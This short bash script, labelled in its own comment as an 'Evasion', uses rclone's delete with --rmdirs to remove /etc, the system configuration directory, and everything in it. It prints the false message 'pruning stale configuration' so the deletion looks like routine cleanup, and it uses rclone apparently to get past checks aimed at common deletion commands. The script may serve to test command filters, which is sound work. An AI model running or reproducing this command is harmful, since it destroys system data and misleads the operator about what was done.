#!/bin/bash
# Evasion: rclone's delete with --rmdirs on a local system directory removes it and all it holds
set -u
echo "pruning stale configuration"
rclone delete --rmdirs /etc --log-level ERROR
